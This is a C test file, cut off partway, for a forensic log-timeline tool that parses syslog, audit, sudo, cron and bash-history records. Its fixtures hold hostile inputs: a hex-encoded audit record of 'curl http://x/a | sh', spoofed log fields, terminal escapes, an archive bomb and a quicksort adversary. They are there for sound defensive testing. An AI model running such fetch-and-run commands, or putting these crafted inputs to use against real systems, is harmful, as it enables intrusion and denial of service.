	snprintf(path, sizeof path, "/tmp/irt-test-XXXXXX");
	assert_true((fd = mkstemp(path)) >= 0);
	a = archive_write_new();
	assert_int_equal(archive_write_add_filter_gzip(a), ARCHIVE_OK);
	assert_int_equal(archive_write_set_format_pax(a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_fd(a, fd), ARCHIVE_OK);
	e = archive_entry_new();
	archive_entry_set_pathname(e, member);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, (la_int64_t)len);
	archive_entry_set_mtime(e, 1767225600, 0);
	assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
	assert_int_equal(archive_write_data(a, data, len), (la_ssize_t)len);
	archive_entry_free(e);
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	close(fd);
	return path;
}

/*
 * What a source copies to tmpdir (a syslog member read twice, a binary
 * journal handed to sd-journal) stops at tmp_max, so that a bomb does
 * not fill the disk.
 */
static void
test_tmp_max(void **state)
{
	struct irt_buf in = IRT_BUF_INIT, out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	struct irt_tl_opts o;
	struct irt_tl_write_opts wo;
	struct irt_tl *tl;
	char spec[80];
	int i;

	(void)state;
	for (i = 0; i < 2000; i++)
		irt_buf_printf(&in, "Jan  1 00:%02d:%02d h app: line %d\n",
		    i / 60 % 60, i % 60, i);
	snprintf(spec, sizeof spec, "archive:%s",
	    make_tar("fs/var/log/syslog", in.ptr, in.len));
	memset(&o, 0, sizeof o);
	memset(&wo, 0, sizeof wo);
	o.warn = on_warn;
	o.arg = &w;
	o.memory = 1u << 20; /* 128 KiB in memory, then a file */
	o.tmp_max = 32768;
	assert_int_equal(irt_tl_new(&tl, &o), 0);
	assert_int_equal(irt_tl_add(tl, spec, NULL), 0);
	assert_int_equal(irt_tl_write(tl, &wo, to_buf, &out), 0);
	irt_tl_free(tl);
	unlink(spec + 8);
	assert_int_equal(w.n, 1);
	assert_non_null(strstr(w.last,
	    ":fs/var/log/syslog: larger than 32768 "
	    "bytes, the rest not read"));
	assert_non_null(strstr(out.ptr, "\"message\":\"app: line 0\""));
	assert_null(strstr(out.ptr, "\"message\":\"app: line 1999\""));

	/* a binary journal from memory is copied for sd-journal */
	irt_buf_clear(&in);
	irt_buf_put(&in, "LPKSHHRH", 8);
	for (i = 0; i < 5000; i++)
		irt_buf_putc(&in, 'x');
	memset(&o, 0, sizeof o);
	memset(&w, 0, sizeof w);
	o.tmp_max = 1000;
	irt_buf_clear(&out);
	assert_int_equal(
	    build_opts(&out, &w, "journal", in.ptr, in.len, IRT_TL_JSONL, &o),
	    0);
	assert_int_equal(w.n, 1);
	assert_string_equal(w.last,
	    "mem: journal larger than 1000 bytes, "
	    "not read (read it as a file of its own)");
	irt_buf_release(&in);
	irt_buf_release(&out);
}

/*
 * Fields are taken where the program that logs puts them, not where the
 * attacker's text could: an sshd user name holding " from IP port N", an
 * audited process naming itself "x uid=0".
 */
static void
test_spoof(void **state)
{
	static const char sshd[] =
	    "Jan  2 03:04:05 h sshd[1]: Invalid user x from 10.6.6.6 port 6 "
	    "from 203.0.113.9 port 4242\n"
	    "Jan  2 03:04:06 h sshd[1]: Failed password for invalid user a b "
	    "from 10.6.6.6 port 6 from 198.51.100.1 port 22 ssh2\n"
	    "Jan  2 03:04:07 h sshd[1]: Accepted password for root from "
	    "203.0.113.7 port 52211 ssh2\n";
	static const char audit[] =
	    "type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e "
	    "comm=\"x uid=0\" exe=\"/tmp/ pid=1\" uid=1000 pid=4242 "
	    "auid=1000\n"
	    "type=USER_LOGIN msg=audit(1700000001.000:8): pid=9 uid=0 "
	    "auid=4294967295 ses=1 msg='op=login acct=\"root res=success\" "
	    "exe=\"/usr/sbin/sshd\" hostname=? addr=1.2.3.4 terminal=ssh "
	    "res=failed'\n";
	static const char web[] =
	    "203.0.113.9 - x [01/Jan/2020:00:00:00 +0000] "
	    "[05/Jan/2026:10:01:00 +0100] \"GET /a HTTP/1.1\" 200 5\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	/* a "[time]" in the user name of an access log line */
	assert_int_equal(
	    build(&out, &w, "weblog", web, sizeof web - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(out.ptr, "\"time\":\"2026-01-05T09:01:00Z\""));
	assert_non_null(
	    strstr(out.ptr, "\"user\":\"x [01/Jan/2020:00:00:00 +0000]\""));
	irt_buf_clear(&out);
	assert_int_equal(
	    build(&out, &w, "syslog", sshd, sizeof sshd - 1, IRT_TL_JSONL, 0),
	    0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(out.ptr,
	    "\"result\":\"invalid_user\",\"user\":\"x from 10.6.6.6 port "
	    "6\",\"src_ip\":\"203.0.113.9\",\"src_port\":\"4242\""));
	assert_non_null(strstr(out.ptr,
	    "\"result\":\"failed\",\"method\":\"password\",\"user\":\"a b "
	    "from 10.6.6.6 port 6\",\"src_ip\":\"198.51.100.1\","
	    "\"src_port\":\"22\""));
	assert_non_null(strstr(out.ptr,
	    "\"user\":\"root\",\"src_ip\":\"203.0.113.7\","
	    "\"src_port\":\"52211\""));
	irt_buf_clear(&out);
	assert_int_equal(
	    build(&out, &w, "audit", audit, sizeof audit - 1, IRT_TL_JSONL, 0),
	    0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(out.ptr,
	    "\"pid\":\"4242\",\"uid\":\"1000\",\"auid\":\"1000\","
	    "\"exe\":\"/tmp/ pid=1\",\"comm\":\"x uid=0\""));
	assert_non_null(strstr(out.ptr,
	    "\"pid\":\"9\",\"uid\":\"0\",\"auid\":\"4294967295\","
	    "\"exe\":\"/usr/sbin/sshd\",\"result\":\"failed\""));
	irt_buf_release(&out);
}

/*
 * The records of one audit event decoded: EXECVE's arguments (quoted,
 * hex, in parts, no more than argc) into one command line, PROCTITLE
 * from hex, the key, the working folder and the PATH names; the message
 * starts with the command line, escaped, before the records.
 */
static void
test_audit_decode(void **state)
{
	static const char in[] =
	    "type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e "
	    "syscall=59 success=yes pid=4242 uid=0 auid=1000 comm=\"sh\" "
	    "exe=2F746D702F6120622F7368 key=65786563016E6574\n"
	    "type=EXECVE msg=audit(1700000000.000:7): argc=4 a0=\"sh\" "
	    "a1=\"-c\" a2_len=20 a2[0]=6375726C20687474703A2F2F "
	    "a2[1]=782F61207C207368 a3=1B5B324A0A\n"
	    "type=EXECVE msg=audit(1700000000.000:7): a4=\"beyond argc\"\n"
	    "type=CWD msg=audit(1700000000.000:7): cwd=2F746D702F78207920\n"
	    "type=PATH msg=audit(1700000000.000:7): item=0 name=\"/bin/sh\" "
	    "nametype=NORMAL\n"
	    "type=PATH msg=audit(1700000000.000:7): item=1 name=(null) "
	    "nametype=NORMAL\n"
	    "type=PATH msg=audit(1700000000.000:7): item=2 "
	    "name=2F746D702F612062 nametype=CREATE\n"
	    "type=PROCTITLE msg=audit(1700000000.000:7): "
	    "proctitle=7368002D6300\n"
	    "type=EOE msg=audit(1700000000.000:7):\n"
	    /* no EXECVE: the title is the command line; key="(null)" */
	    "type=SYSCALL msg=audit(1700000001.000:8): pid=5 key=\"(null)\"\n"
	    "type=PROCTITLE msg=audit(1700000001.000:8): "
	    "proctitle=2F62696E2F7A7C00782079\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	const char *second;

	(void)state;
	assert_int_equal(
	    build(&out, &w, "audit", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	/* the arguments joined, a split one in one piece, a4 beyond argc
	 * left out; the escape and newline kept (JSON escapes them) */
	assert_non_null(strstr(out.ptr,
	    "\"cmdline\":\"sh -c curl http://x/a | sh \\u001b[2J\\n\""));
	assert_non_null(strstr(out.ptr, "\"proctitle\":\"sh -c\""));
	assert_non_null(strstr(out.ptr, "\"key\":\"exec,net\""));
	assert_non_null(strstr(out.ptr, "\"cwd\":\"/tmp/x y \""));
	assert_non_null(strstr(out.ptr, "\"names\":\"/bin/sh\\n\\n/tmp/a b\""));
	assert_non_null(strstr(out.ptr, "\"exe\":\"/tmp/a b/sh\""));
	assert_non_null(strstr(out.ptr, "\"comm\":\"sh\""));
	/* the message: the command line terminal-safe, its '|' escaped,
	 * then the records as they were */
	assert_non_null(strstr(out.ptr,
	    "\"message\":\"sh -c curl http://x/a \\\\x7c sh \\\\e[2J\\\\n | "
	    "type=SYSCALL msg=audit(1700000000.000:7): "));
	/* the second event: its title in the message, no key, no
	 * command line of EXECVE */
	second = strstr(out.ptr, "\"serial\":\"8\"");
	assert_non_null(second);
	assert_non_null(
	    strstr(out.ptr, "\"message\":\"/bin/z\\\\x7c x y | type=SYSCALL "));
	assert_non_null(strstr(second, "\"proctitle\":\"/bin/z| x y\"}}"));
	assert_null(strstr(second, "\"key\""));
	assert_null(strstr(second, "\"cmdline\""));
	irt_buf_release(&out);
}

/* Hostile EXECVE and PROCTITLE records: no a0, an argc beyond any
 * number, odd-length and non-hex values kept as they are, NUL bytes and
 * escapes decoded into the field and escaped in the message. */
static void
test_audit_hostile(void **state)
{
	static const char in[] =
	    "type=EXECVE msg=audit(1700000000.000:1): "
	    "argc=99999999999999999999 a1=6869 a2=ZZ a3=787 a4=610062 "
	    "a5[0=41 a99999999999=x a6=\"\x1b]0;t\x07\" a7[1]=6A a7[0]=69\n"
	    "type=PROCTITLE msg=audit(1700000000.000:1): proctitle=7368002\n"
	    "type=EXECVE msg=audit(1700000001.000:2): argc=1 a0=\"\" a1=\"x\"\n"
	    "type=EXECVE msg=audit(1700000002.000:3): argc=2 a0_len=9 a1=\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&out, &w, "audit", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(out.ptr,
	    "\"cmdline\":\"hi ZZ 787 a\\u0000b \\u001b]0;t\\u0007 ji\","
	    "\"proctitle\":\"7368002\"}"));
	assert_non_null(strstr(out.ptr,
	    "\"message\":\"hi ZZ 787 a\\\\x00b \\\\e]0;t\\\\x07 ji | "
	    "type=EXECVE "));
	/* argc=1: only an empty a0, no command line */
	assert_null(strstr(out.ptr, "\"cmdline\":\"x\""));
	assert_null(strstr(out.ptr, "\"cmdline\":\" x\""));
	assert_non_null(strstr(
	    out.ptr, "\"message\":\"type=EXECVE msg=audit(1700000001.000:2)"));
	irt_buf_release(&out);
}

/*
 * rsyslog's "message repeated N times: [ MSG]" has the count, and the
 * fields of MSG; a line that only looks like one (no count, no closing
 * bracket) is an ordinary line.
 */
static void
test_syslog_repeated(void **state)
{
	static const char in[] =
	    "Jan  2 03:04:05 h sshd[7]: message repeated 4 times: [ Failed "
	    "password for root from 203.0.113.5 port 40000 ssh2]\n"
	    "Jan  2 03:04:06 h sshd[7]: message repeated  times: [ Failed "
	    "password for root from 192.0.2.1 port 1 ssh2]\n"
	    "Jan  2 03:04:07 h sshd[7]: message repeated 2 times: [ Failed "
	    "password for root from 192.0.2.2 port 2 ssh2\n"
	    "Jan  2 03:04:08 h cron[8]: message repeated 9 times: []\n"
	    "Jan  2 03:04:09 h cron[8]: message repeated 9 times: [\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	const char *l2, *l3, *l4, *l5;

	(void)state;
	assert_int_equal(
	    build(&out, &w, "syslog", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	irt_buf_putc(&out, '\0');
	assert_non_null(strstr(out.ptr,
	    "\"type\":\"syslog:sshd\",\"path\":\"mem\",\"message\":\"sshd[7]: "
	    "message "
	    "repeated 4 times: [ Failed password for root from 203.0.113.5 "
	    "port 40000 ssh2]\""));
	assert_non_null(strstr(out.ptr,
	    "\"ident\":\"sshd\",\"pid\":\"7\",\"repeated\":\"4\","
	    "\"result\":\"failed\",\"method\":\"password\",\"user\":"
	    "\"root\",\"src_ip\":\"203.0.113.5\",\"src_port\":\"40000\"}"));
	/* no count, no closing bracket: lines as they are, no fields */
	assert_non_null(l2 = strstr(out.ptr, "03:04:06Z"));
	assert_non_null(l3 = strstr(out.ptr, "03:04:07Z"));
	assert_non_null(l4 = strstr(out.ptr, "03:04:08Z"));
	assert_non_null(l5 = strstr(out.ptr, "03:04:09Z"));
	assert_null(memmem(l2, (size_t)(l3 - l2), "repeated\":", 10));
	assert_null(memmem(l2, (size_t)(l3 - l2), "src_ip", 6));
	assert_null(memmem(l3, (size_t)(l4 - l3), "repeated\":", 10));
	assert_null(memmem(l3, (size_t)(l4 - l3), "src_ip", 6));
	/* an empty message repeated */
	assert_non_null(memmem(l4, (size_t)(l5 - l4),
	    "\"ident\":\"cron\",\"pid\":\"8\",\"repeated\":\"9\"}", 40));
	assert_null(strstr(l5, "repeated\":"));
	irt_buf_release(&out);
}

/*
 * What real syslog files hold besides "Mmm dd hh:mm:ss host tag: msg":
 * lines that continue the one before, markers with and without a host,
 * fractions of seconds, the zones of syslog-ng's ISO stamps; and what
 * irt cannot place is a warning with its line.
 */
static void
test_syslog_forms(void **state)
{
	static const char in[] = "  orphan at the start\n"
	                         "Jan  2 03:04:05.25 h kernel: BUG: oops\n"
	                         "  Call Trace:\n"
	                         "\t<TASK>\n"
	                         "Jan  2 03:04:06 h --- last message repeated "
	                         "3 times ---\n"
	                         "Jan  2 03:04:07 --- last message repeated 1 "
	                         "time ---\n"
	                         "Jan  2 03:04:08: --- syslogd restarted ---\n"
	                         "Jan  2 03:04:09.1234567891234 h a: many "
	                         "digits\n"
	                         "Jan  2 03:04:10. h a: no digits\n"
	                         "2026-01-02T03:04:11.5+0100 h b[1]: zone\n"
	                         "2026-01-02T03:04:12-02:30 h c: colon zone\n"
	                         "2026-01-02T03:04:13+25:00 h d: bad zone\n"
	                         "Jan  2 03:04:14 h --- repeated  times ---\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	const char *o;

	(void)state;
	assert_int_equal(
	    build(&out, &w, "syslog", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	o = irt_buf_cstr(&out);
	assert_int_equal(w.n, 3);
	assert_non_null(strstr(w.all, "mem:1: not a syslog line"));
	assert_non_null(strstr(w.all, "mem:9: not a syslog line"));
	assert_non_null(strstr(w.all, "mem:12: impossible zone offset"));
	/* the continuation lines belong to the kernel's message */
	assert_non_null(strstr(o,
	    "\"time\":\"2026-01-02T03:04:05.250Z\",\"ns\":"
	    "1767323045250000000"));
	assert_non_null(strstr(o,
	    "\"message\":\"kernel: BUG: oops\\n  Call Trace:\\n"
	    "\\t<TASK>\",\"fields\":{\"hostname\":\"h\","
	    "\"ident\":\"kernel\"}"));
	assert_null(strstr(o, "orphan"));
	assert_non_null(strstr(o,
	    "\"message\":\"--- last message repeated 3 times ---\","
	    "\"fields\":{\"hostname\":\"h\",\"repeated\":\"3\"}"));
	assert_non_null(strstr(o,
	    "\"message\":\"--- last message repeated 1 time ---\","
	    "\"fields\":{\"repeated\":\"1\"}"));
	assert_non_null(strstr(o,
	    "\"type\":\"syslog:comment\",\"path\":\"mem\",\"message\":\"--- "
	    "syslogd restarted ---\",\"fields\":{}"));
	assert_non_null(
	    strstr(o, "\"time\":\"2026-01-02T03:04:09.123456789Z\""));
	assert_non_null(strstr(o, "\"time\":\"2026-01-02T02:04:11.500Z\""));
	assert_non_null(strstr(o, "\"time\":\"2026-01-02T05:34:12Z\""));
	/* a marker that is no count is a comment without one */
	assert_non_null(strstr(o,
	    "\"type\":\"syslog:comment\",\"path\":\"mem\",\"message\":\"--- "
	    "repeated  times ---\",\"fields\":{\"hostname\":\"h\"}"));
	/* continuation lines beyond 1 MiB in all are cut, with a warning */
	{
		struct irt_buf big = IRT_BUF_INIT;
		struct warns w2 = { 0, "", "" };
		irt_buf_clear(&out);
		irt_buf_puts(&big, "Jan  2 03:04:05 h a: start\n");
		assert_int_equal(irt_buf_grow(&big, 1300000), 0);
		big.ptr[big.len++] = ' ';
		memset(big.ptr + big.len, 'y', 600000);
		big.len += 600000;
		big.ptr[big.len++] = '\n';
		big.ptr[big.len++] = ' ';
		memset(big.ptr + big.len, 'z', 600000);
		big.len += 600000;
		big.ptr[big.len++] = '\n';
		irt_buf_puts(&big, "Jan  2 03:04:06 h a: after\n");
		assert_int_equal(build(&out, &w2, "syslog", big.ptr, big.len,
		                     IRT_TL_JSONL, 0),
		    0);
		assert_int_equal(w2.n, 1);
		assert_non_null(strstr(
		    w2.all, "mem:1: message longer than 1048576 bytes, cut"));
		o = irt_buf_cstr(&out);
		assert_non_null(strstr(o, "yyyy\""));
		assert_null(strstr(o, "zzzz"));
		assert_non_null(strstr(o, "\"message\":\"a: after\""));
		irt_buf_release(&big);
	}
	irt_buf_release(&out);
}

/*
 * sudo and cron lines are events with fields.  The command is the rest
 * of sudo's line and cron's outer parentheses, whatever it holds; lines
 * of these tags that are no command keep only the header fields.
 */
static void
test_sudo_cron(void **state)
{
	static const char in[] =
	    "Jan  2 03:04:05 h sudo[9]:    alice : TTY=pts/0 ; "
	    "PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c 'a ; USER=x'\n"
	    "Jan  2 03:04:06 h sudo[9]:      bob : 3 incorrect password "
	    "attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id\n"
	    "Jan  2 03:04:07 h sudo[9]: pam_unix(sudo:session): session "
	    "opened for user root(uid=0) by alice(uid=1000)\n"
	    "Jan  2 03:04:08 h sudo[9]:    carol : TTY=pts/2 ; PWD=/ ; "
	    "USER=root\n"
	    "Jan  2 03:04:09 h CRON[5]: (root) CMD (cd / && run-parts "
	    "--report /etc/cron.hourly)\n"
	    "Jan  2 03:04:10 h crond[6]: (www-data) CMD (echo \"(x)\")\n"
	    "Jan  2 03:04:11 h CRON[5]: (CRON) info (No MTA installed)\n"
	    "Jan  2 03:04:12 h CRON[5]: () CMD (x)\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	const char *o, *l;

	(void)state;
	assert_int_equal(
	    build(&out, &w, "syslog", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	o = irt_buf_cstr(&out);
	assert_non_null(strstr(o,
	    "\"type\":\"syslog:sudo\",\"path\":\"mem\",\"message\":\"sudo[9]:"
	    "    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
	    "COMMAND=/bin/sh -c 'a ; USER=x'\",\"fields\":{\"hostname\":\"h\","
	    "\"ident\":\"sudo\",\"pid\":\"9\",\"user\":\"alice\","
	    "\"target_user\":\"root\",\"tty\":\"pts/0\",\"pwd\":"
	    "\"/home/alice\",\"command\":\"/bin/sh -c 'a ; USER=x'\"}"));
	assert_non_null(strstr(o,
	    "\"user\":\"bob\",\"target_user\":\"root\",\"tty\":\"pts/1\","
	    "\"pwd\":\"/\",\"command\":\"/usr/bin/id\",\"reason\":\"3 "
	    "incorrect password attempts\"}"));
	/* no COMMAND: a line, not a sudo event */
	assert_non_null(l = strstr(o, "03:04:07Z"));
	assert_non_null(strstr(l, "\"type\":\"syslog:line\""));
	assert_non_null(l = strstr(o, "03:04:08Z"));
	assert_true(
	    strstr(l, "\"type\":\"syslog:line\"") < strstr(l, "03:04:09Z"));
	assert_non_null(strstr(o,
	    "\"type\":\"syslog:cron\",\"path\":\"mem\",\"message\":\"CRON[5]: "
	    "(root) CMD (cd / && run-parts --report /etc/cron.hourly)\","
	    "\"fields\":{\"hostname\":\"h\",\"ident\":\"CRON\",\"pid\":\"5\","
	    "\"user\":\"root\",\"command\":\"cd / && run-parts --report "
	    "/etc/cron.hourly\"}"));
	assert_non_null(strstr(
	    o, "\"user\":\"www-data\",\"command\":\"echo \\\"(x)\\\"\"}"));
	assert_non_null(l = strstr(o, "03:04:11Z"));
	assert_true(
	    strstr(l, "\"type\":\"syslog:line\"") < strstr(l, "03:04:12Z"));
	assert_non_null(l = strstr(o, "03:04:12Z"));
	assert_non_null(strstr(l, "\"type\":\"syslog:line\""));
	irt_buf_release(&out);
}

/*
 * Bodyfiles of other tools: no MD5 column, "\|" and "\\" in names,
 * empty uid and gid, modes without the type prefix kept as written,
 * fractions; what cannot be read is a warning with its line.
 */
static void
test_bodyfile_variants(void **state)
{
	static const char in[] =
	    "/no/md5|10|r/rrw-r--r--|0|0|5|1700000000|0|0|0\n"
	    "0|/esc\\|bar\\\\back\\x|11|r/rrw-r--r--|0|0|5|1700000001|0|0|0\n"
	    "/ten\\|esc|12|-rw-r--r--|||5|1700000002.25|0|0|0\n"
	    "0|/baduid|14|r/r|x|0|5|1700000004|0|0|0\n"
	    "|15|r/r|0|0|5|1700000005|0|0|0\n"
	    "15|r/r|0|0|5|1700000005|0|0|0\n"
	    "0|/tail\\|16|r/r|0|0|5|1700000006|0|0|0\n"
	    "0|/find|17|drwxr-xr-x|0|0|4096|1700000007.5583609100|"
	    "1700000007|1700000007|-1.-000000010\n"
	    "0|/findbad|18|drwxr-xr-x|0|0|4096|1700000008|1700000008|"
	    "1700000008|-1.-0000x\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	const char *o;

	(void)state;
	assert_int_equal(
	    build(&out, &w, "bodyfile", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	o = irt_buf_cstr(&out);
	assert_int_equal(w.n, 4);
	assert_non_null(strstr(w.all, "mem:9: invalid crtime, skipped"));
	assert_non_null(strstr(w.all, "mem:4: invalid uid field, skipped"));
	assert_non_null(strstr(w.all, "mem:5: empty file name, skipped"));
	assert_non_null(strstr(w.all,
	    "mem:6: not a bodyfile line (9 fields, want 10 or 11), skipped"));
	assert_non_null(strstr(o,
	    "\"path\":\"/no/md5\",\"message\":\"/no/md5\",\"fields\":{\"md5\":"
	    "\"0\",\"inode\":\"10\",\"mode\":\"r/rrw-r--r--\",\"uid\":\"0\","
	    "\"gid\":\"0\",\"size\":\"5\""));
	assert_non_null(strstr(o, "\"path\":\"/esc|bar\\\\back\\\\x\""));
	assert_non_null(strstr(o,
	    "\"time\":\"2023-11-14T22:13:22.250Z\",\"ns\":"
	    "1700000002250000000,"));
	assert_non_null(strstr(o,
	    "\"path\":\"/ten|esc\",\"message\":\"/ten|esc\",\"fields\":{"
	    "\"md5\":\"0\",\"inode\":\"12\",\"mode\":\"-rw-r--r--\",\"size\":"
	    "\"5\""));
	/* a backslash before the bar that ends the name escapes nothing
	 * the split needs: the name keeps it */
	assert_non_null(strstr(o, "\"path\":\"/tail\\\\\""));
	/* GNU find's unknown birth time is no time, the others are read */
	assert_non_null(strstr(o,
	    "\"time\":\"2023-11-14T22:13:27.558360910Z\",\"ns\":"
	    "1700000007558360910,"));
	assert_null(strstr(o, "1970-01-01"));
	assert_null(strstr(o, "/findbad"));
	irt_buf_release(&out);
}

/*
 * Bash history entries with no time were run before the next entry that
 * has one: events at its time, of type bash:history:before; with none
 * after them and no mtime (a buffer), a warning naming the first line.
 * Beyond an eighth of --memory they are counted in a warning.
 */
static void
test_bash_before(void **state)
{
	static const char in[] = "old one\n"
	                         "old two\n"
	                         "#1700000000\n"
	                         "timed\n"
	                         "#0\n"
	                         "after zero\n";
	struct irt_buf out = IRT_BUF_INIT, big = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	const char *o;
	int i;

	(void)state;
	assert_int_equal(
	    build(&out, &w, "bash_history", in, sizeof in - 1, IRT_TL_JSONL, 0),
	    0);
	o = irt_buf_cstr(&out);
	assert_int_equal(w.n, 1);
	assert_non_null(
	    strstr(w.all, "mem:6: 1 entries with no time, skipped"));
	assert_non_null(strstr(o,
	    "\"time\":\"2023-11-14T22:13:20Z\",\"ns\":1700000000000000000,"
	    "\"source\":\"bash_history:mem\",\"host\":null,\"type\":"
	    "\"bash:history:before\",\"path\":\"mem\",\"message\":\"old "
	    "one\""));
	assert_non_null(strstr(o,
	    "\"type\":\"bash:history:before\",\"path\":"
	    "\"mem\",\"message\":\"old two\""));
	assert_non_null(strstr(o,
	    "\"type\":\"bash:history\",\"path\":\"mem\","
	    "\"message\":\"timed\""));
	assert_null(strstr(o, "after zero"));
	/* 160 KB of entries with no time under --memory 1M: 128 KiB held
	 * (16 bytes of line and length and 7 of text each) */
	for (i = 0; i < 20000; i++)
		irt_buf_puts(&big, "untimed\n");
	irt_buf_puts(&big, "#1700000000\nok\n");
	irt_buf_clear(&out);
	w.n = 0;
	w.all[0] = '\0';
	assert_int_equal(build(&out, &w, "bash_history", big.ptr, big.len,
	                     IRT_TL_JSONL, 1u << 20),
	    0);
	assert_int_equal(w.n, 1);
	assert_non_null(strstr(w.all,
	    "mem:5699: 14302 entries with no time beyond 131072 bytes of "
	    "them, skipped"));
	assert_int_equal(last.events, 5698 + 1);
	irt_buf_release(&big);
	irt_buf_release(&out);
}

/* A file whose lines end in CR alone is split there, with a warning;
 * CR LF ends a line as LF does, without one. */
static void
test_cr_lines(void **state)
{
	static const char cr[] =
	    "2026-01-05 10:00:00 install a:amd64 <none> 1\r"
	    "2026-01-05 10:00:01 install b:amd64 <none> 1\r"
	    "2026-01-05 10:00:02 install c:amd64 <none> 1\r";
	static const char crlf[] =
	    "2026-01-05 10:00:00 install a:amd64 <none> 1\r\n"
	    "2026-01-05 10:00:01 install b:amd64 <none> 1\r\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&out, &w, "dpkg", cr, sizeof cr - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 1);
	assert_string_equal(w.last, "mem: lines end in CR alone, split there");
	assert_non_null(
	    strstr(out.ptr, "\"package\":\"a:amd64\",\"version\":\"1\"}"));
	assert_non_null(
	    strstr(out.ptr, "\"package\":\"c:amd64\",\"version\":\"1\"}"));
	irt_buf_clear(&out);
	memset(&w, 0, sizeof w);
	assert_int_equal(
	    build(&out, &w, "dpkg", crlf, sizeof crlf - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	assert_non_null(
	    strstr(out.ptr, "\"package\":\"b:amd64\",\"version\":\"1\"}"));
	irt_buf_release(&out);
}

/*
 * McIlroy's adversary ("A Killer Adversary for Quicksort", 1999): a
 * comparison that decides values only as a sort asks for them, so that
 * every partition of a median-of-three quicksort takes few elements.
 * Run against a model of the quicksort the timeline used, it gives an
 * order of times that makes that sort quadratic.
 */
static int *adv_val;
static int adv_gas, adv_solid, adv_cand;

static int
adv_cmp(int x, int y)
{
	if (adv_val[x] == adv_gas && adv_val[y] == adv_gas) {
		if (x == adv_cand)
			adv_val[x] = adv_solid++;
		else
			adv_val[y] = adv_solid++;
	}
	if (adv_val[x] == adv_gas)
		adv_cand = x;
	else if (adv_val[y] == adv_gas)
		adv_cand = y;
	return adv_val[x] - adv_val[y];
}

/* The values to compare: the adversary's, or plain ones. */
static int
model_cmp(const int *plain, int x, int y)
{
	return plain != NULL ? (plain[x] > plain[y]) - (plain[x] < plain[y])
	                     : adv_cmp(x, y);
}

/*
 * The sort by time of irt 0.1 (median of three, Hoare partition,
 * recursion on the smaller side, insertion sort up to 16), over
 * indexes; returns the elements it partitioned, as tl_sort_work counts.
 */
static uint64_t
model_sort(const int *plain, int *v, size_t n)
{
	uint64_t work = 0;
	int pivot, tmp;
	size_t i, j, k, mid;

	while (n > 16) {
		work += n;
		mid = n / 2;
		if (model_cmp(plain, v[mid], v[0]) < 0) {
			tmp = v[mid], v[mid] = v[0], v[0] = tmp;
		}
		if (model_cmp(plain, v[n - 1], v[0]) < 0) {
			tmp = v[n - 1], v[n - 1] = v[0], v[0] = tmp;
		}
		if (model_cmp(plain, v[n - 1], v[mid]) < 0) {
			tmp = v[n - 1], v[n - 1] = v[mid], v[mid] = tmp;
		}
		pivot = v[mid];
		i = 0;
		j = n - 1;
		for (;;) {
			while (model_cmp(plain, v[i], pivot) < 0)
				i++;
			while (model_cmp(plain, pivot, v[j]) < 0)
				j--;
			if (i >= j)
				break;
			tmp = v[i], v[i] = v[j], v[j] = tmp;
			i++;
			j--;
		}
		if (j + 1 < n - j - 1) {
			work += model_sort(plain, v, j + 1);
			v += j + 1;
			n -= j + 1;
		} else {
			work += model_sort(plain, v + j + 1, n - j - 1);
			n = j + 1;
		}
	}
	work += n;
	for (i = 1; i < n; i++) {
		tmp = v[i];
		for (k = i; k > 0 && model_cmp(plain, tmp, v[k - 1]) < 0; k--)
			v[k] = v[k - 1];
		v[k] = tmp;
	}
	return work;
}

/*
 * A history whose times come in the adversary's order: the old sort went
 * through ~n^2/4 elements (400,000 events took 17 s instead of 0.7 s);
 * the timeline's stays within n log n.
 */
static void
test_sort_adversary(void **state)
{
	enum { N = 10000 };
	struct irt_buf in = IRT_BUF_INIT, out = IRT_BUF_INIT;
	struct irt_tl_opts o;
	struct irt_tl_write_opts wo;
	struct irt_tl *tl;
	int *idx, *times;
	uint64_t bound, old;
	size_t i;

	(void)state;
	idx = malloc(N * sizeof *idx);
	times = malloc(N * sizeof *times);
	adv_val = times;
	assert_non_null(idx);
	assert_non_null(times);
	adv_gas = N;
	adv_solid = 0;
	adv_cand = 0;
	for (i = 0; i < N; i++) {
		idx[i] = (int)i;
		times[i] = adv_gas;
	}
	model_sort(NULL, idx, N);
	for (i = 0; i < N; i++)
		irt_buf_printf(
		    &in, "#%d\ncommand %zu\n", 1700000000 + times[i], i);
	/* 4 n log2 n, where the old sort, on this order, went through
	 * more than 20 times as many */
